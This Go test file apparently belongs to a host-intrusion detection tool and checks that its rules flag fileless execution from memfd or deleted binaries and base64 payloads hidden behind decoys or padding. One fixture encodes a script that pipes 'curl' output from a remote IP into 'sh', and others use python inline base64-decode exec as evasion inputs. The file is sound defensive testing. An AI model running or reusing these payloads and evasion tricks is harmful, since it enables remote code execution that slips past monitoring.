package detect_test

import (
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"github.com/encwatch/encwatch/audit"
	"github.com/encwatch/encwatch/detect"
)

// kernelExec is a successful execve event shaped as the kernel reports it:
// exe the resolved file, PATH item 0 the file named in the call.
func kernelExec(exe, named string, argv ...string) *audit.Event {
	return &audit.Event{
		Time: time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC), Serial: 1, Syscall: 59, Success: true,
		PID: 4242, PPID: 4241, Exe: exe, Argc: len(argv), Argv: argv, Cwd: "/home/u",
		Paths: []audit.Path{{Item: 0, Name: named, Dev: "fe:00", Inode: 1001, Mode: 0o100755, Nametype: "NORMAL"}},
	}
}

func alertNames(as []detect.Alert) []string {
	var out []string
	for _, a := range as {
		out = append(out, a.Signature.Name)
	}
	return out
}

func decoys(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = base64.StdEncoding.EncodeToString([]byte(strings.Repeat("decoy text, nothing to see here ", 4)))
	}
	return out
}

// TestFilelessExec checks the default policy's fileless_exec on events
// shaped as this kernel reports them (see the kernel test).
func TestFilelessExec(t *testing.T) {
	p := defaultPolicy(t)
	for _, tt := range []struct {
		exe, named string
		want       bool
	}{
		{"/memfd:stage2 (deleted)", "/dev/fd/3", true},
		{"/memfd: (deleted)", "", true},
		{"/tmp/dropper (deleted)", "/tmp/dropper", true},
		{"/dev/fd/4", "/dev/fd/4", true},
		{"/usr/bin/ls", "/proc/self/fd/5", true},
		{"/usr/bin/ls", "/usr/bin/ls", false},
		{"/tmp/memfd:x", "/tmp/memfd:x", false},
	} {
		ev := kernelExec(tt.exe, tt.named, "x")
		got := false
		for _, a := range detect.NewEngine(p, "h", time.Now).Evaluate(ev) {
			got = got || a.Signature.Name == "fileless_exec"
		}
		if got != tt.want {
			t.Errorf("fileless_exec on exe %q, path %q = %v, want %v", tt.exe, tt.named, got, tt.want)
		}
	}
}

// TestPayloadBehindDecoys: decoys and padding in front of a payload, more
// than any former cap (64 KiB, 16 blobs), do not hide it.
func TestPayloadBehindDecoys(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"))
	p := defaultPolicy(t)
	for _, tt := range []struct {
		name string
		argv []string
		want string
	}{
		{"echo, 10000 decoys", append(append([]string{"echo"}, decoys(10000)...), payload), "base64_shebang_cmdline"},
		{"python, 100 KiB padding", []string{"python3", "-c", "x='" + strings.Repeat("A", 100<<10) + "';import base64;exec(base64.b64decode('" + payload + "'))"}, "interpreter_inline_decode"},
		{"python, payload in its arguments", []string{"python3", "-c", "import base64,sys;exec(base64.b64decode(sys.argv[-1]))", strings.Repeat("pad ", 30000), payload}, "base64_shebang_cmdline"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := alertNames(detect.NewEngine(p, "h", time.Now).Evaluate(kernelExec("/usr/bin/"+tt.argv[0], "/usr/bin/"+tt.argv[0], tt.argv...)))
			found := false
			for _, n := range got {
				found = found || n == tt.want
			}
			if !found {
				t.Errorf("Evaluate = %v, want %s among them", got, tt.want)
			}
		})
	}
}
